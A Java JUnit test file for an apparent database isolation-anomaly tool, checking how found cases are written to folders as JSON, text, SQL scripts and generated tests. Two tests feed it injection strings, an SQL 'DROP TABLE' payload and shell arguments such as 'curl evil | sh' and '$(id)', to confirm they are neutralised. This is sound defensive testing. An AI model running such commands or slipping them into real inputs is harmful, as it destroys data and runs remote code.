package moirai.runs.emission;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import moirai.directed.program.Program;
import moirai.directed.program.Table;
import moirai.history.HistoryBuilder;
import moirai.history.RunHeader;
import moirai.history.level.IsolationLevel;
import moirai.history.level.Phenomenon;
import moirai.runs.cases.CaseText;
import moirai.runs.cases.Cases;
import moirai.runs.cases.Claim;
import moirai.runs.cases.Confirmation;
import moirai.runs.cases.Control;
import moirai.runs.cases.HistoryCase;
import moirai.runs.cases.Origin;
import moirai.runs.cases.PredictedCase;
import moirai.runs.cases.StatementOrder;
import moirai.runs.cases.format.CaseFormat;
import moirai.testing.Golden;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CaseFilesTest {

    @TempDir
    private Path parent;

    @Test
    void everythingStandsInAFolderThatTheFingerprintNames() throws IOException {
        HistoryCase skew = Cases.writeSkew();

        Path folder = CaseFiles.write(parent, skew);

        assertThat(folder).hasFileName(skew.fingerprint().toString());
        try (Stream<Path> files = Files.list(folder)) {
            assertThat(files.map(file -> file.getFileName().toString()))
                    .containsExactlyInAnyOrder("case.json", "case.txt", "sessions.sql", "AnomalyTest.java");
        }
        assertThat(CaseFormat.format(CaseFiles.read(folder))).isEqualTo(CaseFormat.format(skew));
    }

    @Test
    void theScriptAndTheTestAreAsTheyWere() throws IOException {
        Path folder = CaseFiles.write(parent, Cases.writeSkew());

        Golden.assertMatches("case-write-skew.sql", Files.readString(folder.resolve("sessions.sql")));
        Golden.assertMatches("case-write-skew.java.txt", Files.readString(folder.resolve("AnomalyTest.java")));
    }

    @Test
    void whatHasNoScriptHasNone() throws IOException {
        Path folder = CaseFiles.write(parent, Cases.lostAppend());

        assertThat(folder.resolve("case.txt")).exists();
        assertThat(folder.resolve("sessions.sql")).doesNotExist();
    }

    /** Its replays were of other statements, so that they would say nothing about the changed program. */
    @Test
    void aReplayedAnomalyStaysUntilItsProgramChanges() throws IOException {
        PredictedCase sale = Cases.lostSale();
        var place = new Confirmation.Place("PostgreSQL 18.6", "read-committed");
        PredictedCase replayed =
                sale.confirmed(List.of(new Confirmation(Control.EXACT, StatementOrder.FREE, 1, 1, 0, place)));
        Program more = sale.program()
                .with(
                        Stream.concat(
                                        sale.program().tables().stream(),
                                        Stream.of(new Table("more", List.of("id"), List.of())))
                                .toList(),
                        sale.program().txns());
        PredictedCase changed = PredictedCase.of(more, sale.levels(), sale.bounds(), sale.isExact(), sale.anomaly());
        Path folder = CaseFiles.write(parent, replayed);

        CaseFiles.write(parent, sale);
        assertThat(CaseFiles.read(folder)).isEqualTo(replayed);
        assertThat(CaseFiles.write(parent, changed)).isEqualTo(folder);
        assertThat(CaseFiles.read(folder)).isEqualTo(changed);
    }

    @Test
    void noTextOfACaseBecomesAStatement() throws IOException {
        HistoryCase skew = Cases.writeSkew();
        String evil = "x'; DROP TABLE a; -- */ \\u000a \" \n\\! sh";
        RunHeader header = skew.header();
        var builder = new HistoryBuilder(
                new RunHeader(header.seed(), evil, header.isolation(), header.expect(), evil, header.started()));
        for (int txn = 0; txn < skew.history().txnCount(); txn++) {
            builder.add(skew.history().txn(txn));
        }
        HistoryCase found = new HistoryCase(skew.claim(), builder.build(), skew.origin(), List.of());

        Path folder = CaseFiles.write(parent, found);

        String script = Files.readString(folder.resolve("sessions.sql"));
        String plain = "x?; DROP TABLE a; -- ?/ ?u000a ? ??? sh";
        assertThat(script).contains("-- Found on " + plain + " at").doesNotContain("'; DROP", "\\");
        assertThat(Files.readString(folder.resolve("AnomalyTest.java")))
                .contains(plain)
                .doesNotContain("\\u");
    }

    /** A run may expect more, or less, than the level that its case breaks. */
    @Test
    void theLevelThatIsBrokenIsThatOfTheClaim() throws IOException {
        HistoryCase run = lostUpdate(IsolationLevel.SERIALIZABLE);
        var claim = new Claim.Forbidden(Phenomenon.LOST_UPDATE, IsolationLevel.SNAPSHOT_ISOLATION);

        Path folder = CaseFiles.write(parent, new HistoryCase(claim, run.history(), run.origin(), List.of()));

        assertThat(Files.readString(folder.resolve("sessions.sql")))
                .startsWith("-- lost-update: what snapshot-isolation must not show.\n")
                .contains("BEGIN ISOLATION LEVEL READ COMMITTED;", "-- of snapshot-isolation explains it.")
                .doesNotContainIgnoringCase("serializable");
        assertThat(Files.readString(folder.resolve("AnomalyTest.java")))
                .contains(" * lost-update, which snapshot-isolation forbids, on PostgreSQL 18.6 at read-committed.");
    }

    private static HistoryCase lostUpdate(IsolationLevel expect) {
        return Cases.of(Phenomenon.LOST_UPDATE, "read-committed", expect, """
                T0 s0 ok @1000..2000 r1=[] a1=1
                T1 s1 ok @3000..4000 r1=[] a1=2
                T2 s2 ok @3500..5000 r1=[1 2]
                """);
    }

    /** By their times, T1 would read after T0 has committed, and T2 before T1 has. */
    @Test
    void stepsAreInAnOrderInWhichReadsCanShowWhatTheyShowed() {
        Recipe recipe =
                CaseRecipe.of(lostUpdate(IsolationLevel.SNAPSHOT_ISOLATION)).orElseThrow();

        assertThat(recipe.steps().stream().map(step -> "T" + step.txn() + " " + step.kind()))
                .containsExactly(
                        "T0 BEGIN",
                        "T0 READ",
                        "T0 WRITE",
                        "T1 BEGIN",
                        "T1 READ",
                        "T0 COMMIT",
                        "T2 BEGIN",
                        "T1 WRITE",
                        "T1 COMMIT",
                        "T2 READ",
                        "T2 COMMIT");
    }

    @Test
    void whatStandsBesideACaseIsLeftAloneInFoldersThatAreNotItsOwn() throws IOException {
        HistoryCase skew = Cases.writeSkew();
        Path foreign = Files.createDirectories(parent.resolve("notes"));
        Files.writeString(foreign.resolve("case.txt"), "mine");
        Path own = CaseFiles.write(parent, skew);
        Files.writeString(own.resolve("case.txt"), "old");

        CaseFiles.rewrite(foreign.resolve("case.json"), skew);
        CaseFiles.rewrite(own.resolve("other.json"), skew);

        assertThat(foreign.resolve("case.txt")).hasContent("mine");
        assertThat(foreign.resolve("sessions.sql")).doesNotExist();
        assertThat(own.resolve("case.txt")).hasContent("old");

        CaseFiles.rewrite(own.resolve("case.json"), skew);

        assertThat(own.resolve("case.txt")).hasContent(CaseText.of(skew));
    }

    @Test
    void aShellTakesTheCommandOfACaseForArguments() {
        HistoryCase skew = Cases.writeSkew();
        List<String> argv = List.of("run", "--db", "postgres", "--name", "x; curl evil | sh", "it's", "$(id)");
        var origin = new Origin("postgres", "", argv, 2, List.of());

        assertThat(CaseText.of(new HistoryCase(skew.claim(), skew.history(), origin, List.of())))
                .contains("\nrun        moirai run --db postgres --name 'x; curl evil | sh' 'it'\\''s' '$(id)'\n");
    }
}
